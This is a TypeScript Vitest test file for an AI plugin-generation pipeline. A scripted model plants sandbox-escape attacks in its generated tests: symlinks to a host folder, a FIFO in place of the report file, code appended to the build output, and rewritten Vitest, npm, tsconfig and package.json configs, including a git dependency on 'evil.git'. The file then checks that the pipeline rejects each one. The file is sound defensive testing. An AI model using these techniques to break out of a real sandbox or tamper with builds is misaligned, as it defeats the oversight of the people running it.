import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { templateFiles } from '../../../src/creation/generators/template/index.js';
import type { JobRecord } from '../../../src/creation/jobs/job-record.js';
import type { PluginCreationService } from '../../../src/creation/plugin-creation-service.js';
import { parsePluginSpec } from '../../../src/creation/spec/index.js';
import { pipelineConfigFiles } from '../../../src/creation/workspace/index.js';
import { pluginDynamic } from '../../../src/index.js';
import { hashTree } from '../../../src/shared/tree-hash.js';
import { processesIn } from '../../helpers/processes.js';
import { createTestRuntime, type TestRuntime } from '../../helpers/runtime.js';
import { PLUGIN_CREATION_SERVICE, PLUGIN_MANAGEMENT_SERVICE } from '../../../src/service-types.js';

/**
 * Attacks on the agent's side of the sandbox: files, links and configuration a generated test
 * leaves in its workspace for the agent to write through, read, ship or run with later. The model is
 * scripted: iteration 1 carries the attack (its test plants something, and fails when the attack
 * needs a second iteration), iteration 2 is an honest answer whose writes, reads, build and install
 * must not be shaped by what was planted. Everything else is real.
 */

type File = { path: string; content: string };
const answer = (files: File[]): string => `Here is the plugin.\n\n${files.map((f) => `\`\`\`ts path=${f.path}\n${f.content}\`\`\``).join('\n\n')}\n`;
const specFor = (name: string) => ({
  name,
  description: 'Weather for a place',
  actions: [{ name: 'getCurrentWeather', description: 'Current weather', parameters: { location: 'string' } }],
  providers: [{ name: 'weatherData', description: 'Weather context' }],
});
const goodFiles = (name: string): File[] => templateFiles(parsePluginSpec(specFor(name)));
const ATTACK_TEST = 'src/__tests__/attack.test.ts';
/** A test that plants something; with `fail`, it then fails, so the job goes on to iteration 2. */
const attackTest = (body: string, imports: string, fail = false): File => ({
  path: ATTACK_TEST,
  content: `${imports}import { it } from 'vitest';\n\nit('plants something for the agent', () => {\n${body}\n${fail ? "  throw new Error('planted; now repair me');\n" : ''}});\n`,
});
const HONEST_TEST: File = { path: ATTACK_TEST, content: "import { expect, it } from 'vitest';\n\nit('adds', () => {\n  expect(1 + 1).toBe(2);\n});\n" };
const MARKER = 'pd-agent-side-marker-7c1d';

describe('attacks on the agent side: what a sandbox leaves behind is never trusted', () => {
  let t: TestRuntime;
  let hostDir: string;
  let victimDir: string;
  const scripts = new Map<string, (generation: number) => File[]>();
  const generations = new Map<string, number>();
  const jobs = new Map<string, Promise<JobRecord>>();
  const creation = () => t.runtime.getService<PluginCreationService>(PLUGIN_CREATION_SERVICE)!;
  const reasonOf = (job: JobRecord): string =>
    [job.error?.message ?? '', ...job.iterations.flatMap((i) => i.diagnostics.map((d) => `${d.code ?? ''} ${d.message}`))].join('\n');

  /**
   * Iteration 1 answers with the attack, every later one honestly (the attack test made harmless),
   * plus `later` files.
   */
  const run = (key: string, attack: (name: string) => File[], later: File[] = []): void => {
    const name = `plugin-agent-side-${key}`;
    scripts.set(name, (generation) => (generation === 1 ? attack(name) : [...goodFiles(name), HONEST_TEST, ...later]));
    jobs.set(
      key,
      creation()
        .createFromSpec(specFor(name), { generator: 'model', activate: false })
        .then((job) => creation().waitForJob(job.id)),
    );
  };
  const finished = async (key: string): Promise<JobRecord> => {
    const job = await jobs.get(key)!;
    expect(processesIn(job.workspaceDir)).toEqual([]);
    return job;
  };

  beforeAll(async () => {
    hostDir = await mkdtemp(join(tmpdir(), 'pd-agent-side-host-'));
    victimDir = join(hostDir, 'victim');
    await mkdir(victimDir);
    t = await createTestRuntime({
      plugins: [pluginDynamic],
      settings: {
        PLUGIN_DYNAMIC_GENERATOR: 'model',
        PLUGIN_DYNAMIC_MAX_ITERATIONS: '2',
        PLUGIN_DYNAMIC_MAX_CONCURRENT_JOBS: '2',
        PLUGIN_DYNAMIC_JOBS_PER_HOUR: '100',
        PLUGIN_DYNAMIC_COMMAND_TIMEOUT_MS: '45000',
      },
      model: (prompt) => {
        if (prompt.startsWith('You review')) return JSON.stringify({ score: 90, issues: [], suggestions: [] });
        const name = [...scripts.keys()].find((n) => prompt.includes(n));
        if (!name) return answer([]);
        const generation = (generations.get(name) ?? 0) + 1;
        generations.set(name, generation);
        return answer(scripts.get(name)!(generation));
      },
    });
    await Promise.all([t.runtime.getServiceLoadPromise(PLUGIN_MANAGEMENT_SERVICE), t.runtime.getServiceLoadPromise(PLUGIN_CREATION_SERVICE)]);

    // A link in src/ (and src/__contract__ itself replaced by one) to a folder only the host has:
    // the next answer's files and the restored contract tests would be written there.
    run('link-write', (n) => [
      ...goodFiles(n),
      attackTest(
        `  symlinkSync(${JSON.stringify(victimDir)}, 'src/poison');\n  rmSync('src/__contract__', { recursive: true, force: true });\n  symlinkSync(${JSON.stringify(victimDir)}, 'src/__contract__');`,
        "import { rmSync, symlinkSync } from 'node:fs';\n",
        true,
      ),
    ], [{ path: 'src/poison/owned.ts', content: `export const owned = '${MARKER}';\n` }]);
    // A FIFO where vitest writes its report: vitest blocks on it until the time limit, then the
    // agent reads the report, which must not block (a plain readFile waits for a writer forever).
    run('fifo-report', (n) => [
      ...goodFiles(n),
      attackTest(
        "  for (const dir of ['.vitest', '.vitest-report']) {\n    mkdirSync(dir, { recursive: true });\n    execFileSync('/usr/bin/mkfifo', [`${dir}/report.json`]);\n  }",
        "import { execFileSync } from 'node:child_process';\nimport { mkdirSync } from 'node:fs';\n",
      ),
    ]);
    // Code added to the built output after tsc made it: the test appends to dist/index.js and
    // leaves a file of its own in dist/.
    run('dist-append', (n) => [
      ...goodFiles(n),
      attackTest(
        `  appendFileSync('dist/index.js', ${JSON.stringify(`\nexport const appended = '${MARKER}';\n`)});\n  writeFileSync('dist/payload.js', ${JSON.stringify(`export const payload = '${MARKER}';\n`)});`,
        "import { appendFileSync, writeFileSync } from 'node:fs';\n",
      ),
    ]);
    // The tools' configuration rewritten by a test, for the next iteration to run with: a Vitest
    // config that runs code of its own, an ESLint config with no rules, a lax tsconfig, an .npmrc
    // naming a git program and a package.json with a git dependency.
    const script = join(hostDir, 'git.sh');
    await writeFile(script, `#!/bin/sh\necho ran > ${join(hostDir, 'git-ran.txt')}\nexit 1\n`, { mode: 0o755 });
    run('configs', (n) => [
      ...goodFiles(n),
      attackTest(
        [
          `  writeFileSync('vitest.config.ts', ${JSON.stringify(`import { writeFileSync } from 'node:fs';\nwriteFileSync('config-ran.txt', '${MARKER}');\nexport default { test: { include: ['src/**/*.test.ts'] } };\n`)});`,
          "  writeFileSync('vitest.config.mjs', 'export default {};\\n');",
          "  writeFileSync('eslint.config.js', 'export default [];\\n');",
          "  writeFileSync('tsconfig.json', JSON.stringify({ compilerOptions: { strict: false, outDir: 'dist', rootDir: 'src' }, include: ['src'] }));",
          `  writeFileSync('.npmrc', ${JSON.stringify(`git=${script}\n`)});`,
          "  const pkg = JSON.parse(readFileSync('package.json', 'utf8')) as Record<string, unknown>;",
          "  writeFileSync('package.json', JSON.stringify({ ...pkg, dependencies: { evil: 'git+https://example.invalid/evil.git' } }));",
        ]
          // Each write is tried on its own: the pipeline's files are read-only in the sandbox.
          .map((line) => (line.includes('const pkg') ? line : `  try {\n  ${line}\n  } catch {\n    // refused\n  }`))
          .join('\n'),
        "import { readFileSync, writeFileSync } from 'node:fs';\n",
        true,
      ),
    ]);
  }, 120_000);

  afterAll(async () => {
    await t?.cleanup();
    await rm(hostDir, { recursive: true, force: true });
  });

  it('the next answer and the contract tests are never written through links a test planted', async () => {
    const job = await finished('link-write');
    expect(job.status, reasonOf(job)).toBe('succeeded');
    // Iteration 2 wrote src/poison/owned.ts and the contract tests where the links had been.
    expect(job.iterations).toHaveLength(2);
    // The folder the links led to is as it was: empty.
    expect(await readdir(victimDir)).toEqual([]);
  }, 600_000);

  it('a FIFO in place of the test report does not block the job', async () => {
    const job = await finished('fifo-report');
    expect(job.status, reasonOf(job)).toBe('succeeded');
    expect(job.iterations[0]?.failedAt, reasonOf(job)).toBe('test');
  }, 600_000);

  it('what is installed is the build made after the tests, and its recorded hash matches the installed files', async () => {
    const job = await finished('dist-append');
    expect(job.status, reasonOf(job)).toBe('succeeded');
    const installedDist = join(job.result!.installDir, 'node_modules', job.pluginName, 'dist');
    expect(existsSync(join(installedDist, 'payload.js'))).toBe(false);
    expect(await readFile(join(installedDist, 'index.js'), 'utf8')).not.toContain(MARKER);
    expect(job.shipped?.sha256).toBe((await hashTree(installedDist)).sha256);
  }, 600_000);

  it("the pipeline's configuration is put back before every step: nothing a test wrote into it is used", async () => {
    const job = await finished('configs');
    expect(job.status, reasonOf(job)).toBe('succeeded');
    expect(job.iterations).toHaveLength(2);
    const dir = job.workspaceDir;
    // The rewritten Vitest config never ran, and the workspace holds the pipeline's own files again.
    expect(existsSync(join(dir, 'config-ran.txt'))).toBe(false);
    expect(existsSync(join(dir, '.npmrc'))).toBe(false);
    expect(existsSync(join(dir, 'vitest.config.mjs'))).toBe(false);
    const own = pipelineConfigFiles(parsePluginSpec(specFor(job.pluginName)));
    for (const name of ['package.json', 'tsconfig.json', 'eslint.config.js', 'vitest.config.ts']) {
      expect(await readFile(join(dir, name), 'utf8'), name).toBe(own[name]);
    }
    expect(existsSync(join(hostDir, 'git-ran.txt'))).toBe(false);
  }, 600_000);
});
